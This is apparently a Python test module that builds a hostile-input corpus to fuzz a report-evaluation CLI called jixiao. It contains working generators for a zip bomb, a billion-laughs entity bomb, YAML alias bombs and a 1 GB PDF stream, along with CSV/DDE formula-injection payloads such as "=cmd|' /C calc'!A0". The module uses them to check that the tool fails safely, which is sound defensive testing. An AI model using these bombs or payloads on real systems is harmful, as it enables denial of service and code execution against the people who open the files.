"""The hostile-input corpus: files an attacker or a clumsy user would give jixiao.

Every case builds its input files in an empty folder (nothing is committed as a
binary) and names the command to run on them and what must come out: an exit code
in {0, 1, 2}, a located Chinese message (the file name and what was wrong), a time
bound, and nothing left behind. ``tests/hostile/test_corpus.py`` runs every case in a
real subprocess under a memory limit; ``python -m tests.hostile.corpus DIR`` writes the
files only (for manual runs and for the atheris seed corpus).

The sizes are those of issue 11's report: a billion-laughs YAML, a FIFO and links to
/dev/zero and /dev/urandom, a 2 GB docx zip bomb, a PDF with a 1 GB content stream,
one merged range over a whole sheet, 100k list rows, a 20 KB line of "1,2,3,…",
40-digit and 5,000-digit numbers, ``1e400`` and ``1e999999``, nesting 1,000 deep, a
framework formula ``1e999``, an 800-deep indicator tree, console markup in report
text, formula-injection payloads and a file named ``=1+1.txt``, an output folder
holding a user's edited report, and an output folder on a read-only file system.
"""

from __future__ import annotations

import os
import shutil
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TypedDict, Unpack

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"
WORKBOOK = EXAMPLES / "wanzhou-2020.xlsx"
DEPARTMENT = EXAMPLES / "wanzhou-2020.yaml"

# Formula-injection payloads (OWASP CSV injection): each must reach the exports as inert text.
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)

MINIMAL_YAML = "framework: national-2013\nprofile: {name: 测试局, year: 2023}\n"


@dataclass(frozen=True)
class Case:
    """One hostile input: ``build`` writes files into a folder and returns the CLI arguments."""

    name: str
    build: Callable[[Path], list[str]]
    exits: frozenset[int] = frozenset({1})
    says: tuple[str, ...] = ()  # substrings the output must contain ("{dir}" is the case folder)
    seconds: float = 30.0
    check: Callable[[Path], str | None] | None = None  # post-condition; returns a problem or None
    allow_outputs: tuple[str, ...] = ()  # files the command may create in the folder
    needs: str | None = None  # a capability the case needs ("fifo", "unshare"); see ``available``
    group: str = "input"
    extra: dict[str, str] = field(default_factory=dict)


class CaseOptions(TypedDict, total=False):
    """The optional fields of :class:`Case` that the case builders pass through."""

    exits: frozenset[int]
    seconds: float
    check: Callable[[Path], str | None] | None
    allow_outputs: tuple[str, ...]
    needs: str | None
    extra: dict[str, str]


# -- small writers --------------------------------------------------------------------------------

def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _write_bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int]]) -> None:
    """A zip of pre-compressed raw-deflate entries: (name, deflated bytes, declared size, crc).

    Lets a bomb declare gigabytes without spending the time to compress them: a
    full-flushed deflate block repeated N times is a valid stream of N copies.
    """
    out = bytearray()
    central = bytearray()
    for name, data, size, crc in entries:
        raw = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(raw), 0)
        out += raw + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                               len(raw), 0, 0, 0, 0, 0o644 << 16, offset)
        central += raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))


def _deflated(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _repeated_deflate(chunk: bytes, total: int) -> tuple[bytes, int]:
    """Raw deflate of ``chunk`` repeated up to ``total`` bytes, built from one compressed copy."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    n = total // len(chunk)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = tail.compress(b"") + tail.flush()  # an empty final block
    return block * n + end, n * len(chunk)


def _docx_parts(body: str) -> list[tuple[str, bytes]]:
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return [
        ("[Content_Types].xml", (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'wordprocessingml.document.main+xml"/></Types>')),
        ("_rels/.rels", (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/officeDocument" Target="word/document.xml"/></Relationships>')),
        ("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document {ns}><w:body>{body}</w:body></w:document>'.encode()),
    ]


def _docx(path: Path, paragraphs: list[str]) -> Path:
    from xml.sax.saxutils import escape

    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in _docx_parts(body):
            z.writestr(name, data)
    return path


def _docx_bomb(path: Path, size: int = 2 * 1024**3) -> Path:
    """A .docx whose document.xml inflates to ``size`` bytes of paragraphs (2 GB by default)."""
    parts = _docx_parts("")
    head = b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    chunk = b"<w:p><w:r><w:t>1</w:t></w:r></w:p>" * 4096
    deflated, inflated = _repeated_deflate(chunk, size)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    entries = [(n, _deflated(d), len(d), zlib.crc32(d)) for n, d in parts if n != "word/document.xml"]
    entries.append(("word/document.xml", body + deflated, len(head) + inflated, 0))  # CRC never reached
    _raw_zip(path, entries)
    return path


def _pdf(path: Path, objects: list[bytes]) -> Path:
    """A PDF from numbered object bodies (1-based); object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path


def _pdf_huge_stream(path: Path, size: int = 1024**3) -> Path:
    """One page whose content stream inflates to ``size`` bytes of text operators (1 GB by default)."""
    chunk = b"BT /F1 12 Tf 72 720 Td (1,2,3,4,5,6,7,8,9) Tj ET\n" * 2048
    deflated, _ = _repeated_deflate(chunk, size)
    stream = zlib.compressobj(9, zlib.DEFLATED, 15)  # zlib wrapper: FlateDecode expects one
    header = stream.compress(b"")  # the two-byte zlib header
    header += stream.flush(zlib.Z_SYNC_FLUSH)
    data = header[:2] + deflated  # no Adler-32 trailer: a decoder fails only after inflating it all
    return _pdf(path, [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n".encode() + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def _pdf_many_pages(path: Path, pages: int = 100_000) -> Path:
    """A small file with ``pages`` pages sharing one content stream."""
    content = b"BT /F1 12 Tf 72 720 Td (1) Tj ET"
    kids = " ".join(f"{i + 5} 0 R" for i in range(pages)).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(pages).encode() + b" >>",
        f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
    objects += [page] * pages
    return _pdf(path, objects)


def _patch_xlsx(src: Path, dst: Path, part: str, edit: Callable[[str], str]) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == part:
                data = edit(data.decode("utf-8")).encode("utf-8")
            zout.writestr(info.filename, data)
    return dst


PROJECT_SHEET = "xl/worksheets/sheet5.xml"  # 项目支出 (a list sheet) in the example workbook
BUDGET_SHEET = "xl/worksheets/sheet4.xml"  # 收支情况 (a key-value sheet)


def _many_rows(xml: str, rows: int = 100_000) -> str:
    body = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>项目{r}</t></is></c><c r="B{r}"><v>1</v></c>'
        f'<c r="C{r}"><v>1</v></c></row>'
        for r in range(30, 30 + rows)
    )
    return xml.replace("</sheetData>", body + "</sheetData>")


def _whole_sheet_merge(xml: str) -> str:
    cell = '<mergeCell ref="A24:XFD1048576"/>'
    if "</mergeCells>" in xml:
        return xml.replace("</mergeCells>", cell + "</mergeCells>", 1)
    return xml.replace("</sheetData>", f'</sheetData><mergeCells count="1">{cell}</mergeCells>', 1)


def _entity_bomb(xml: str) -> str:
    """Billion laughs inside a worksheet: ten levels of ten-fold entity expansion in cell A4."""
    dtd = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
    import re

    xml = re.sub(r"^<\?xml[^>]*>", "", xml)
    return dtd + re.sub(r'(<c r="A4"[^>]*><is><t>)[^<]*', r"\1&j;", xml, count=1)


def _budget_cell(value_xml: str) -> Callable[[str], str]:
    """Replace the first numeric cell value in the budget sheet."""
    def edit(xml: str) -> str:
        import re

        return re.sub(r"<v>[0-9.]+</v>", value_xml, xml, count=1)
    return edit


# -- the cases ------------------------------------------------------------------------------------

def _yaml_case(name: str, text: str, says: tuple[str, ...], **kw: Unpack[CaseOptions]) -> Case:
    file = f"{name}.yaml"

    def build(d: Path) -> list[str]:
        _write(d / file, text)
        return ["evaluate", str(d / file)]

    return Case(name, build, says=(file, *says), **kw)


def _alias_bomb(levels: int = 9, width: int = 10) -> str:
    lines = [MINIMAL_YAML.rstrip("\n"), "x0: &x0 [" + ", ".join(["lol"] * width) + "]"]
    for i in range(1, levels + 1):
        lines.append(f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


def _alias_bomb_framework(levels: int = 9, width: int = 10) -> str:
    text = (Path(ROOT / "src/jixiao/frameworks/data/national-2013.yaml").read_text(encoding="utf-8"))
    lines = ["x0: &x0 [" + ", ".join(["lol"] * width) + "]"]
    for i in range(1, levels + 1):
        lines.append(f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * width) + "]")
    return text.replace("\nindicators:", "\nnotes: *x" + str(levels) + "\nindicators:", 1).replace(
        "id: national-2013", "\n".join(lines) + "\nid: national-2013", 1)


def _deep_yaml_block(depth: int) -> str:
    lines = [MINIMAL_YAML.rstrip("\n"), "budget:"]
    lines += [" " * (i + 1) + f"k{i}:" for i in range(depth)]
    lines.append(" " * (depth + 1) + "v: 1")
    return "\n".join(lines) + "\n"


def _deep_tree_framework(depth: int = 800) -> str:
    """An indicator tree ``depth`` levels deep, in flow style (block style would exceed the size limit)."""
    leaf = "{id: leaf, name: 末级, weight: 100, metric: budget_execution_rate, rule: {kind: threshold, op: '>=', target: 90}}"
    tree = leaf
    for i in range(depth):
        tree = f"{{id: n{i}, name: 层{i}, weight: 100, children: [{tree}]}}"
    return f"id: deep\nname: 深层指标树\nindicators: [{tree}]\n"


def _framework_with_formula(formula: str) -> str:
    return (
        "id: hostile\nname: 公式\nindicators:\n  - id: a\n    name: 甲\n    weight: 100\n"
        f"    formula: {formula}\n    rule: {{kind: threshold, op: '>=', target: 90}}\n"
    )


def _tex_names(d: Path) -> list[str]:
    """Indicator and department names that matplotlib would read as TeX ("$\\frac$") on the charts."""
    bundled = ROOT / "src/jixiao/frameworks/data/chongqing-district-2020.yaml"
    fw = bundled.read_text(encoding="utf-8").replace("    name: 投入\n", '    name: "$\\\\frac$"\n', 1)
    assert "$" in fw
    _write(d / "fw.yaml", fw)
    data = DEPARTMENT.read_text(encoding="utf-8").replace("  name: 重庆市万州区人民政府外事办公室\n",
                                                          '  name: "[/x]$\\\\frac$局"\n', 1)
    assert "frac" in data
    _write(d / "data.yaml", data)
    return ["evaluate", str(d / "data.yaml"), "--framework", str(d / "fw.yaml"), "-o", str(d / "out")]


def _charts_drawn(d: Path) -> str | None:
    charts = sorted(p.name for p in (d / "out").glob("chart-*.png"))
    return None if "chart-scores.png" in charts else f"charts not drawn: {charts}"


def _fw_case(name: str, text: str, says: tuple[str, ...] = (), **kw: Unpack[CaseOptions]) -> Case:
    file = f"{name}.yaml"

    def build(d: Path) -> list[str]:
        _write(d / file, text)
        return ["frameworks", "check", str(d / file)]

    return Case(name, build, says=(file, *says), group="framework", **kw)


def _special(kind: str, suffix: str, command: str) -> Case:
    name = f"{kind}-{command}{suffix}"

    def build(d: Path) -> list[str]:
        target = d / f"input{suffix}"
        if kind == "fifo":
            os.mkfifo(target)
        else:
            os.symlink(f"/dev/{kind.removeprefix('link-')}", target)
        if command == "evaluate":
            return ["evaluate", str(target)]
        if command == "check":
            return ["frameworks", "check", str(target)]
        if command == "template":
            return ["template", str(d / "out.xlsx"), "--from", str(target)]
        if command == "review":
            return ["review", str(target), "--framework", "national-2013"]
        return ["audit", str(target)]

    return Case(name, build, says=(f"input{suffix}", "普通文件"), seconds=20,
                exits=frozenset({1, 2}) if command == "review" else frozenset({1}),  # review: 2 = report unusable
                needs="fifo" if kind == "fifo" else None, group="special")


def _xlsx_case(name: str, part: str, edit: Callable[[str], str], says: tuple[str, ...], **kw: Unpack[CaseOptions]) -> Case:
    def build(d: Path) -> list[str]:
        _patch_xlsx(WORKBOOK, d / f"{name}.xlsx", part, edit)
        return ["evaluate", str(d / f"{name}.xlsx")]

    return Case(name, build, says=(f"{name}.xlsx", *says), group="workbook", **kw)


def _audit_case(name: str, make: Callable[[Path], Path], says: tuple[str, ...] = (), **kw: Unpack[CaseOptions]) -> Case:
    def build(d: Path) -> list[str]:
        return ["audit", str(make(d))]

    return Case(name, build, says=says, group="audit", **kw)


def _text(name: str, text: str) -> Callable[[Path], Path]:
    return lambda d: _write(d / name, text)


def _pathological_texts() -> dict[str, str]:
    """The pathological families fed to the auditor (about 20 KB each in the corpus)."""
    n = 20_000
    return {
        "commas": ",".join(str(i % 10) for i in range(n // 2)),
        "dots": ".".join(str(i % 10) for i in range(n // 2)),
        "digits": "1" * n,
        "plus-chain": "+".join("1" for _ in range(n // 2)) + "=2",
        "times-chain": "×".join("2" for _ in range(n // 2)) + "=4",
        "paren-open": "（" * (n // 2) + "1" + "）" * (n // 2),
        "percent-run": "1%" * (n // 2),
        "yuan-run": "1万元" * (n // 3),
        "space-digits": " ".join("1" for _ in range(n // 2)),
        "equals-run": "1=" * (n // 2),
        "minus-run": "-" * n + "1",
        "其中-run": "其中" * (n // 2) + "1万元",
        "合计-run": "合计1万元，" * (n // 6),
        "rate-words": "执行率" * (n // 3) + "99%",
        "mixed-separators": "1,2.3，4、5；" * (n // 12),
        "long-number-dotted": "1." * (n // 2),
        "score-run": "得分1分，" * (n // 5),
        "yoy-run": "同比增长1%，" * (n // 7),
        "nested-formula": "(1+(1+(1+" * (n // 10) + "1" + ")))" * (n // 10) + "=5",
    }


def _keep_file(path: Path, content: bytes) -> Callable[[Path], str | None]:
    def check(d: Path) -> str | None:
        target = d / path
        if not target.exists():
            return f"{path} was removed"
        return None if target.read_bytes() == content else f"{path} was overwritten"
    return check


def _evaluate_over_edited_report(d: Path) -> list[str]:
    out = d / "out"
    out.mkdir()
    (out / "自评报告.docx").write_bytes(b"user's edited report")
    return ["evaluate", str(DEPARTMENT), "-o", str(out), "--format", "docx,md"]


def _evaluate_into_own_input(d: Path) -> list[str]:
    out = d / "out"
    out.mkdir()
    shutil.copy(WORKBOOK, out / "数据表.xlsx")
    return ["evaluate", str(out / "数据表.xlsx"), "-o", str(out), "--format", "xlsx", "--force"]


def _audit_over_existing(d: Path) -> list[str]:
    _write(d / "r.txt", "预算执行率为90%。\n")
    (d / "审核结果.xlsx").write_bytes(b"a reviewer's own workbook")
    return ["audit", str(d / "r.txt"), "-o", str(d / "审核结果.xlsx")]


def _stale_tmp(d: Path) -> list[str]:
    stale = d / ".out.jixiao-tmp-4194304-dead"  # a pid above any pid_max: the run that made it is gone
    stale.mkdir()
    (stale / "自评报告.md").write_text("half-written", encoding="utf-8")
    return ["evaluate", str(DEPARTMENT), "-o", str(d / "out"), "--format", "md"]


def _no_stale(d: Path) -> str | None:
    left = [p.name for p in d.iterdir() if ".jixiao-tmp-" in p.name]
    return f"stale temporary folders left: {left}" if left else None


def _readonly(d: Path) -> list[str]:
    (d / "ro").mkdir()
    script = (f"mount -t tmpfs -o ro tmpfs {d / 'ro'} && exec {sys.executable} -m jixiao evaluate {DEPARTMENT} "
              f"-o {d / 'ro' / 'out'} --format md")
    return ["--shell", script]


def cases() -> list[Case]:
    big_int = "9" * 5000
    out: list[Case] = [
        # YAML and JSON department files
        _yaml_case("alias-bomb", _alias_bomb(), ("别名",), seconds=15),
        _yaml_case("alias-recursive", MINIMAL_YAML + "x: &a [*a, *a]\n", ("别名",)),
        _yaml_case("nested-1000-flow", MINIMAL_YAML + "x: " + "[" * 1000 + "]" * 1000 + "\n", ("嵌套",)),
        _yaml_case("nested-300-block", _deep_yaml_block(300), ("嵌套",)),
        _yaml_case("amount-40-digits", MINIMAL_YAML + "budget: {initial: " + "1" * 40 + ".5}\n", ("budget", "位")),
        _yaml_case("amount-1e400", MINIMAL_YAML + "budget: {initial: 1.0e+400, final: 1.0e+400}\n", ("budget",)),
        _yaml_case("amount-5000-digit-int", MINIMAL_YAML + f"budget: {{initial: {big_int}}}\n", ("budget", "位")),
        _yaml_case("count-1e999999", MINIMAL_YAML + "staffing: {authorized: 1.0e+999999}\n", ("staffing",)),
        _yaml_case("amount-tiny", MINIMAL_YAML + "budget: {initial: 1.0e-999999}\n", ("budget",)),
        _yaml_case("text-2mb", MINIMAL_YAML + "three_public: {scope_note: " + "长" * 300_000 + "}\n", ("scope_note", "字")),
        _yaml_case("list-100k", MINIMAL_YAML + "expenditure:\n  projects:\n" + "  - {name: a}\n" * 100_000, ("projects", "条")),
        _yaml_case("keys-100k", MINIMAL_YAML + "x:\n" + "".join(f"  k{i}: 1\n" for i in range(100_000)), ("x",)),
        Case("not-utf8", lambda d: ["evaluate", str(_write_bytes(d / "gbk.yaml", "profile: {name: 测试局, year: 2023}\n".encode("gbk")))],
             says=("gbk.yaml", "UTF-8")),
        Case("markup-name", lambda d: ["evaluate", str(_write(d / "m.yaml",
             "framework: national-2013\nprofile: {name: '[/x][bold red]测试局[link=http://x]', year: 2023}\n"))],
             says=("[/x][bold red]测试局",), exits=frozenset({0})),
        Case("json-nested-1000", lambda d: ["evaluate", str(_write(d / "deep.json",
             '{"profile": {"name": "x", "year": 2023}, "x": ' + "[" * 1000 + "]" * 1000 + "}"))],
             says=("deep.json", "嵌套")),
        Case("json-5000-digit-int", lambda d: ["evaluate", str(_write(d / "big.json",
             '{"profile": {"name": "x", "year": 2023}, "budget": {"initial": ' + big_int + "}}"))],
             says=("big.json", "budget", "位")),
        Case("json-1e400", lambda d: ["evaluate", str(_write(d / "e400.json",
             '{"profile": {"name": "x", "year": 2023}, "budget": {"initial": 1e400}}'))], says=("e400.json", "budget")),
        Case("json-nan", lambda d: ["evaluate", str(_write(d / "nan.json",
             '{"profile": {"name": "x", "year": 2023}, "budget": {"initial": NaN}}'))], says=("nan.json",)),
        Case("too-large-yaml", lambda d: ["evaluate", str(_write(d / "big.yaml", MINIMAL_YAML + "#" * (6 * 1024 * 1024)))],
             says=("big.yaml", "MB")),
        # frameworks
        _fw_case("fw-alias-bomb", _alias_bomb_framework(), ("别名",), seconds=15),
        _fw_case("fw-formula-1e999", _framework_with_formula("1e999"), ("公式",)),
        _fw_case("fw-formula-huge-int", _framework_with_formula("1" + "0" * 600), ("formula", "位数过多")),
        _fw_case("fw-formula-record", _framework_with_formula("budget.initial / budget"), ("budget", "数值字段")),
        _fw_case("fw-formula-40-digits", _framework_with_formula("budget.initial * " + "7" * 40), ("公式",)),
        _fw_case("fw-weight-1e400", _framework_with_formula("budget.initial").replace("weight: 100", "weight: 1.0e+400"),
                 ("weight",)),
        _fw_case("fw-tree-800-deep", _deep_tree_framework(), ("嵌套",)),
        Case("names-tex-in-charts", _tex_names, exits=frozenset({0}), check=_charts_drawn, allow_outputs=("out",),
             group="framework"),
        Case("fw-evaluate-1e999", lambda d: ["evaluate", str(DEPARTMENT), "--framework",
             str(_write(d / "fw.yaml", _framework_with_formula("1e999")))], says=("fw.yaml", "公式"), group="framework"),
        # special files
        *[_special(k, s, c) for k in ("fifo", "link-zero", "link-urandom")
          for s, c in ((".yaml", "evaluate"), (".json", "evaluate"), (".xlsx", "evaluate"), (".yaml", "check"),
                       (".txt", "audit"), (".docx", "audit"), (".pdf", "audit"), (".yaml", "template"),
                       (".txt", "review"))],
        # workbooks
        _xlsx_case("xlsx-100k-rows", PROJECT_SHEET, _many_rows, ("项目支出", "行")),
        _xlsx_case("xlsx-whole-sheet-merge", PROJECT_SHEET, _whole_sheet_merge, ("项目支出", "合并")),
        _xlsx_case("xlsx-5000-digit-cell", BUDGET_SHEET, _budget_cell(f"<v>{big_int}</v>"), ("收支情况",)),
        _xlsx_case("xlsx-40-digit-cell", BUDGET_SHEET, _budget_cell("<v>" + "1" * 40 + "</v>"), ("收支情况", "位")),
        _xlsx_case("xlsx-1e400-cell", BUDGET_SHEET, _budget_cell("<v>1e400</v>"), ("收支情况",)),
        _xlsx_case("xlsx-1e300-cell", BUDGET_SHEET, _budget_cell("<v>1e300</v>"), ("收支情况",)),
        _xlsx_case("xlsx-entity-bomb", PROJECT_SHEET, _entity_bomb, ()),
        Case("xlsx-zip-bomb", lambda d: ["evaluate", str(_docx_bomb(d / "bomb.xlsx"))], says=("bomb.xlsx",),
             group="workbook"),
        # the auditor
        _audit_case("audit-xlsx-whole-sheet-merge",
                    lambda d: _patch_xlsx(WORKBOOK, d / "merged.xlsx", PROJECT_SHEET, _whole_sheet_merge),
                    ("merged.xlsx", "工作表「项目支出」", "合并")),
        _audit_case("docx-zip-bomb-2gb", lambda d: _docx_bomb(d / "bomb.docx"), ("bomb", "解压")),
        _audit_case("pdf-1gb-stream", lambda d: _pdf_huge_stream(d / "stream.pdf"), ("stream.pdf",), seconds=30),
        _audit_case("pdf-100k-pages", lambda d: _pdf_many_pages(d / "pages.pdf"), ("pages.pdf", "页")),
        _audit_case("txt-commas-20kb", _text("commas.txt", "收入" + ",".join(str(i % 10) for i in range(10_000)) + "万元\n"),
                    exits=frozenset({0, 1}), seconds=20),
        _audit_case("txt-commas-10000-lines", _text("lines.txt", ("1,2,3,4,5,6,7,8,9,10" * 50 + "\n") * 200),
                    exits=frozenset({0, 1}), seconds=30),
        *[_audit_case(f"txt-{fam}", _text(f"{fam}.txt", text + "\n"), exits=frozenset({0, 1}), seconds=20)
          for fam, text in _pathological_texts().items()],
        _audit_case("txt-markup", _text("markup.txt", "[/x]预算执行率为[bold]90%[/bold]，[link=http://x]预算100万元，支出60万元。\n"),
                    ("markup.txt",), exits=frozenset({0, 1})),
        _audit_case("docx-not-zip", lambda d: _write(d / "fake.docx", "这不是 Word 文件"), ("fake.docx",)),
        _audit_case("txt-binary", lambda d: _write_bytes(d / "bin.txt", os.urandom(4096)), ("bin.txt",)),
        Case("audit-export-injection", _build_injection, exits=frozenset({1}), check=_check_injection,
             allow_outputs=("审核结果.xlsx", "审核结果.csv"), group="export"),
        # nothing overwritten, nothing left behind
        Case("evaluate-over-edited-report", _evaluate_over_edited_report, exits=frozenset({1, 2}),
             says=("自评报告.docx", "--force"), check=_keep_file(Path("out/自评报告.docx"), b"user's edited report"),
             group="overwrite"),
        Case("evaluate-into-own-input", _evaluate_into_own_input, exits=frozenset({1, 2}), says=("数据表.xlsx", "输入"),
             check=_keep_file(Path("out/数据表.xlsx"), WORKBOOK.read_bytes()), group="overwrite"),
        Case("audit-over-existing", _audit_over_existing, exits=frozenset({1, 2}), says=("审核结果.xlsx", "--force"),
             check=_keep_file(Path("审核结果.xlsx"), b"a reviewer's own workbook"), group="overwrite"),
        Case("stale-tmp-cleaned", _stale_tmp, exits=frozenset({0}), check=_no_stale, allow_outputs=("out",),
             group="overwrite"),
        Case("output-under-proc", lambda d: ["evaluate", str(DEPARTMENT), "-o", "/proc/jixiao-out", "--format", "md"],
             says=("/proc/jixiao-out", "无法写入"), exits=frozenset({1, 2}), group="overwrite"),
        Case("output-read-only-fs", _readonly, says=("ro/out", "只读"), exits=frozenset({1, 2}), needs="unshare",
             group="overwrite"),
    ]
    return out


def _build_injection(d: Path) -> list[str]:
    """Reports whose quoted sentences start with each payload, and files named like formulas."""
    sentence = "年初预算100万元，全年支出60万元，预算执行率90%。"
    _write(d / "报告.txt", "\n".join(p + sentence for p in PAYLOADS) + "\n")
    _docx(d / "报告.docx", [p + sentence for p in PAYLOADS])
    _write(d / "=1+1.txt", sentence + "\n")
    _write(d / "@SUM(1).txt", sentence + "\n")
    files = "报告.txt 报告.docx =1+1.txt @SUM(1).txt"
    return ["--sequence", f"audit {files} -o 审核结果.xlsx", f"audit {files} -o 审核结果.csv"]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _check_injection(d: Path) -> str | None:
    import csv

    import openpyxl

    problems: list[str] = []
    wb = openpyxl.load_workbook(d / "审核结果.xlsx")
    texts = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r\n").startswith(FORMULA_START[:4]):
                    texts += 1
                    if not cell.quotePrefix:
                        problems.append(f"{ws.title}!{cell.coordinate} lacks the text prefix: {cell.value!r}")
    if texts < 8:
        problems.append(f"only {texts} formula-like texts reached the workbook; the payloads were lost")
    with (d / "审核结果.csv").open(encoding="utf-8-sig", newline="") as fh:
        for r, line in enumerate(csv.reader(fh), start=1):
            for value in line:
                if value.startswith(FORMULA_START) and not _plain_number(value):
                    problems.append(f"csv row {r} starts a formula: {value!r}")
    return "; ".join(problems[:5]) or None


def _plain_number(text: str) -> bool:
    import re

    return re.fullmatch(r"[+-]?\d[\d,]*(\.\d+)?%?", text) is not None


def available(need: str | None) -> str | None:
    """Why a capability is missing on this machine, or None when present."""
    if need is None:
        return None
    if need == "fifo":
        return None if hasattr(os, "mkfifo") else "no FIFOs on this platform"
    if need == "unshare":
        import subprocess

        probe = subprocess.run(["unshare", "-m", "true"], capture_output=True)
        return None if probe.returncode == 0 else "cannot make a private mount namespace (unshare -m)"
    raise ValueError(need)


def main(argv: list[str]) -> int:
    """Write every case's input files under DIR/<case>/ (the command is printed, not run)."""
    if len(argv) != 1:
        print("usage: python -m tests.hostile.corpus DIR", file=sys.stderr)
        return 2
    root = Path(argv[0])
    for case in cases():
        folder = root / case.name
        folder.mkdir(parents=True, exist_ok=True)
        args = case.build(folder)
        print(case.name, " ".join(args))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
